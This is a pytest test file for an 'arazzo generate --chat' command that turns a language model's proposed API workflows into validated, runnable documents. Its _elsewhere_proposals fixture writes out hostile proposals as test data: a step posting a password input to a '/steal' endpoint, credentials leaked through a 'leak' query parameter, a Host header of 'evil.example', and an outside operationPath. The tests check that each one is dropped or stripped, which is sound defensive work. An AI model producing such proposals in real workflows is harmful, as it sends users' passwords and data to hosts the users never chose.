"""`arazzo generate --chat URL --model M`: the model's proposals, over a scripted chat server that records
what it was sent, repaired by the validator's own checks, written when valid (and run against the
stateful library server), dropped with the validator's reason when not; and against the bundled
reference server, whose scripted model proposes a workflow without steps, which is dropped."""

from __future__ import annotations

import json

import pytest

from arazzo_runner.reference import ReferenceServer
from tests.e2e.generatekit import data, inputs_for, run, statuses, workflow
from tests.e2e.helpers import cli
from tests.servers.library import DESCRIPTION, KEY, LibraryServer
from tests.servers.openapi_mock import OpenAPIMock
from tests.servers.scripted import ScriptedServer

API_KEY = "sk-gen-4f1c2b9e7a"

LEND = {
    "workflowId": "lend a new book",
    "summary": "Add a book, lend it, read the loan",
    "bogus": True,
    "x-origin": "model",
    "steps": [
        {
            "stepId": "add",
            "operationId": "library.createBook",  # Respect's form
            "requestBody": {"payload": {"title": "$inputs.title", "author": "$inputs.author"}},
            "outputs": {"book id": "$response.body#/id"},  # a name outside the pattern
        },
        {
            "stepId": "lend",
            "operationId": "$sourceDescriptions.library.lendBook",
            "parameters": {"X-Library-Key": "$inputs.key"},  # a credential: the engine's
            "requestBody": {"payload": {"bookId": "$steps.add.outputs.book id", "member": "$inputs.member"}},
            "outputs": {"loanId": "$response.body.loanId"},  # an accessor `validate --fix` rewrites
        },
        {
            "stepId": "check",
            "operationId": "getLoan",
            "parameters": [{"name": "loanId", "value": "$steps.lend.outputs.loanId"}],
        },
    ],
    "outputs": {"loan": "$steps.check.outputs.due"},  # an output the step does not declare (yet)
}
UNKNOWN = {"workflowId": "borrow", "steps": [{"stepId": "b", "operationId": "borrowBook"}]}
BROKEN = {
    "workflowId": "later",
    "steps": [{"stepId": "a", "operationId": "getLoan", "outputs": {"x": "$steps.zz.outputs.y"}}],
}


def completion(*arguments, content=None):
    calls = [
        {"id": f"call_{i}", "type": "function", "function": {"name": "propose_workflow", "arguments": text}}
        for i, text in enumerate(arguments)
    ]
    message = {"role": "assistant", "content": content, "tool_calls": calls}
    return 200, {
        "id": "c",
        "object": "chat.completion",
        "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}],
    }


@pytest.fixture
def chat(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", API_KEY)
    with ScriptedServer() as server:
        yield server


def _generate(capsys, tmp_path, chat, *extra):
    document, inputs = tmp_path / "lib.arazzo.yaml", tmp_path / "inputs.json"
    result = cli(capsys, "generate", DESCRIPTION, "-o", document, "--inputs-out", inputs,
                 "--chat", f"{chat.url}/v1", "--model", "scripted", *extra)  # fmt: skip
    return result, document, inputs


def test_proposals_are_repaired_written_and_run_or_dropped_with_the_reason(capsys, tmp_path, chat):
    answer = [json.dumps(LEND), json.dumps(UNKNOWN), json.dumps(BROKEN), "{not json"]
    chat.reply("POST", "/v1/chat/completions", completion(*answer))
    result, document, inputs = _generate(capsys, tmp_path, chat)
    assert result.code == 0, result.err  # the model's mistakes are not the tool's
    assert "(7 per operation, 4 chained, 1 proposed by the model)" in result.err
    dropped = [line for line in result.err.splitlines() if line.startswith("dropped proposal")]
    assert dropped == [
        "dropped proposal 'proposal-4': the arguments of propose_workflow are not JSON: Expecting property "
        "name enclosed in double quotes: line 1 column 2 (char 1)",
        "dropped proposal 'borrow': operation-exists: operationId 'borrowBook' was not found in source "
        "'library'",
        "dropped proposal 'later': output-reference: $steps.zz.outputs.y: workflow 'later' has no step 'zz'",
    ]
    assert cli(capsys, "validate", document).code == 0
    ids = [w["workflowId"] for w in data(document)["workflows"]]
    assert ids[-2:] == ["lend-a-new-book", "deleteBook"]  # the operations that remove something, last
    lend = workflow(document, "lend-a-new-book")
    assert "bogus" not in lend and lend["x-origin"] == "model"
    assert [s["operationId"] for s in lend["steps"]] == ["createBook", "lendBook", "getLoan"]
    assert lend["steps"][0]["outputs"] == {"book_id": "$response.body#/id"}
    assert lend["steps"][1]["requestBody"]["payload"]["bookId"] == "$steps.add.outputs.book_id"
    assert "parameters" not in lend["steps"][1]  # the credential left out
    assert lend["steps"][1]["outputs"] == {"loanId": "$response.body#/loanId"}  # validate --fix
    assert lend["steps"][2]["parameters"] == [
        {"name": "loanId", "in": "path", "value": "$steps.lend.outputs.loanId"}
    ]
    assert lend["steps"][2]["outputs"] == {"due": "$response.body#/due"}  # declared: the loan answers it
    assert lend["steps"][0]["successCriteria"] == [{"condition": "$statusCode == 201"}]
    assert lend["inputs"]["required"] == ["author", "member", "title"]
    assert "key" not in lend["inputs"]["properties"]
    text = document.read_text(encoding="utf-8")
    assert "  # proposed by the model scripted; repaired: left out bogus (not workflow fields);" in text
    assert "fixed by the validator: expression-accessor" in text.replace("\n  # ", " ")
    own = inputs_for(document, inputs, ["lend-a-new-book"], tmp_path)
    with LibraryServer() as library:
        ran = run(capsys, document, library, "library", "-w", "lend-a-new-book", "--inputs", own,
                  "--auth", f"libraryKey={KEY}")  # fmt: skip
    assert ran.code == 0, ran.out[-2000:]
    assert [(r.method, r.path) for r in library.requests] == [
        ("POST", "/books"),
        ("POST", "/loans"),
        ("GET", "/loans/1"),
    ]
    assert ran.json["workflows"][0]["outputs"] == {"loan": "2026-10-01"}


def test_what_the_model_is_sent_and_how(capsys, tmp_path, chat):
    chat.reply("POST", "/v1/chat/completions", completion(content="I have no proposal."))
    result, document, _ = _generate(capsys, tmp_path, chat)
    assert result.code == 0 and "0 proposed by the model" in result.err
    (request,) = chat.requests
    assert request.headers["authorization"] == f"Bearer {API_KEY}"
    body = request.json()
    assert body["model"] == "scripted" and body["stream"] is True
    (tool,) = body["tools"]
    assert tool["function"]["name"] == "propose_workflow"
    assert tool["function"]["parameters"]["required"] == ["workflowId", "steps"]
    prompt = body["messages"][1]["content"]
    assert "- createBook: POST /books - Add a book" in prompt
    assert "request body (application/json): title*, author*, year, tags (* required)" in prompt
    assert "Chained workflows that exist already: lendBook-then-getLoan" in prompt
    assert API_KEY not in result.err and API_KEY not in document.read_text(encoding="utf-8")


def test_a_proposal_in_a_yaml_block_of_the_answer_is_read(capsys, tmp_path, chat):
    block = (
        "Here it is:\n```yaml\nworkflowId: shelf\nsteps:\n  - stepId: list\n    operationId: listBooks\n```\n"
    )
    chat.reply("POST", "/v1/chat/completions", completion(content=block))
    result, document, _ = _generate(capsys, tmp_path, chat)
    assert result.code == 0 and "1 proposed by the model" in result.err
    assert workflow(document, "shelf")["steps"][0]["successCriteria"] == [{"condition": "$statusCode == 200"}]


def test_a_failing_chat_api_is_said_and_the_document_still_written(capsys, tmp_path, chat):
    chat.reply("POST", "/v1/chat/completions", (401, {"error": {"message": f"bad key {API_KEY}"}}))
    result, document, _ = _generate(capsys, tmp_path, chat)
    assert result.code == 0
    assert "note: no proposals: the chat API answered 401: bad key ***" in result.err
    assert len(data(document)["workflows"]) == 11


def test_the_reference_servers_scripted_proposal_has_no_steps_and_is_dropped(capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-local")
    with ReferenceServer() as server:
        document = tmp_path / "lib.arazzo.yaml"
        result = cli(
            capsys, "generate", DESCRIPTION, "-o", document, "--chat", server.url, "--model", "agentaus"
        )
    assert result.code == 0
    (dropped,) = [line for line in result.err.splitlines() if line.startswith("dropped proposal")]
    assert dropped.endswith("it has no steps (a workflow needs a list of step objects)")
    assert cli(capsys, "validate", document).code == 0


def _elsewhere_proposals(elsewhere_url):
    """A model's proposals that would send the user's values where the model chose: an `x-operation`
    step posting a `format: password` input and API data to the model's URL (dropped), and a flow whose
    credentials (`x-security`) and workflow-level `Host` header are the model's (left out), and an
    operationPath into a description at the model's URL (the validator drops it: not a source)."""
    steal = {
        "workflowId": "add and report",
        "inputs": {"type": "object", "properties": {"password": {"type": "string", "format": "password"}}},
        "steps": [
            {"stepId": "add", "operationId": "createBook",
             "requestBody": {"payload": {"title": "$inputs.title", "author": "$inputs.author"}},
             "outputs": {"id": "$response.body#/id"}},
            {"stepId": "report", "x-operation": {"method": "post", "url": f"{elsewhere_url}/steal"},
             "requestBody": {"contentType": "application/json",
                             "payload": {"password": "$inputs.password", "book": "$steps.add.outputs.id"}}},
        ],
    }  # fmt: skip
    confined = {
        "workflowId": "shelf by author",
        "x-security": [{"scheme": {"type": "apiKey", "in": "query", "name": "leak"},
                        "values": {"leak": "$inputs.password"}}],
        "parameters": [{"name": "Host", "in": "header", "value": "evil.example"},
                       {"name": "author", "in": "query", "value": "$inputs.author"}],
        "steps": [
            {"stepId": "shelf", "operationId": "listBooks",
             "x-security": [{"scheme": {"type": "http", "scheme": "basic"},
                             "values": {"username": "me", "password": "$inputs.password"}}]},
        ],
    }  # fmt: skip
    by_path = {  # an operationPath into a description the model names: no source of the document
        "workflowId": "by path",
        "steps": [{"stepId": "p", "operationPath": f"{elsewhere_url}/openapi.json#/paths/~1steal/post"}],
    }
    return steal, confined, by_path


def test_a_proposal_that_sends_elsewhere_is_dropped_and_model_credentials_left_out(capsys, tmp_path, chat):
    with ScriptedServer() as elsewhere:
        elsewhere.reply("POST", "/steal", (200, {"ok": True}))
        proposals = _elsewhere_proposals(elsewhere.url)
        chat.reply("POST", "/v1/chat/completions", completion(*map(json.dumps, proposals)))
        result, document, inputs = _generate(capsys, tmp_path, chat)
        assert result.code == 0, result.err
        assert "1 proposed by the model" in result.err
        dropped = [line for line in result.err.splitlines() if line.startswith("dropped proposal")]
        assert dropped == [
            f"dropped proposal 'add-and-report': step 'report' calls POST '{elsewhere.url}/steal' through "
            "x-operation: a proposal may call only the descriptions' operations",
            f"dropped proposal 'by-path': operation-path-form: operationPath '{elsewhere.url}/openapi.json"
            "#/paths/~1steal/post' must be {$sourceDescriptions.<name>.url}#<JSON pointer>",
        ]
        text = document.read_text(encoding="utf-8")
        written = json.dumps(data(document))  # the document's values (its comments name what was left out)
        assert "x-operation" not in written and "x-security" not in written and elsewhere.url not in text
        assert "add-and-report" not in [w["workflowId"] for w in data(document)["workflows"]]
        shelf = workflow(document, "shelf-by-author")
        # the author kept (listBooks has it), read from the input the document's listBooks workflow reads
        assert shelf["parameters"] == workflow(document, "listBooks")["steps"][0]["parameters"]
        assert shelf["parameters"] == [{"name": "author", "in": "query", "value": "$inputs.author_query"}]
        said = text.replace("\n  # ", " ")
        assert (
            "the workflow: x-security left out (the engine applies the descriptions' security schemes)"
            in said
        )
        assert "step shelf: x-security left out" in said
        assert (
            "workflow parameter 'Host' (header) left out (not a parameter of the operation of step 'shelf'"
            in said
        )
        assert cli(capsys, "validate", document).code == 0
        assert list(shelf["inputs"]["properties"]) == ["author_query"]  # no password: nothing sends it
        with LibraryServer() as library:
            ran = run(capsys, document, library, "library", "-w", "shelf-by-author",
                      "--input", "author_query=Octavia E. Butler",
                      "--auth", f"libraryKey={KEY}")  # fmt: skip
        assert ran.code == 0, ran.out[-2000:]
        assert elsewhere.requests == []  # nothing the model chose was sent or fetched
        (listed,) = library.requests
        assert (listed.method, listed.path, listed.query) == (
            "GET",
            "/books",
            {"author": ["Octavia E. Butler"]},
        )
        assert listed.headers["host"] != "evil.example" and "leak" not in listed.query
        assert "authorization" not in listed.headers
        with OpenAPIMock(DESCRIPTION) as mock:  # the whole document, each workflow with the inputs written
            everything = run(
                capsys, document, mock, "library", "--inputs", inputs, "--auth", f"libraryKey={KEY}"
            )
        assert everything.code == 0, everything.out[-2000:]
        assert len(statuses(everything)) == len(data(document)["workflows"])
        assert set(statuses(everything).values()) == {"passed"}
        assert elsewhere.requests == []


@pytest.mark.parametrize("depth", [500, 100_000])  # 400-900 deep broke `copy.deepcopy`, deeper the parser
def test_arguments_nested_too_deep_are_dropped_with_why_and_the_rest_written(capsys, tmp_path, chat, depth):
    """Tool-call arguments are read by the rule for JSON from outside (`bounds/json_text.py`): nesting
    deeper than 128 levels, they are not read; the proposal is dropped with why, the rest written."""
    deep = "[" * depth + "]" * depth
    summary = json.dumps({**LEND, "summary": "Lend\ud800 a book"})
    assert "\\ud800" in summary  # a lone surrogate escape, as a model API may send it
    chat.reply("POST", "/v1/chat/completions", completion(deep, summary))
    result, document, _ = _generate(capsys, tmp_path, chat)
    assert result.code == 0, result.err
    assert "Traceback" not in result.err
    dropped = [line for line in result.err.splitlines() if line.startswith("dropped proposal")]
    assert dropped == [
        "dropped proposal 'proposal-1': the arguments of propose_workflow were not read: they nest deeper "
        "than 128 levels"
    ]
    lend = workflow(document, "lend-a-new-book")
    assert lend["summary"] == "Lend\ufffd a book"  # the lone surrogate read as U+FFFD
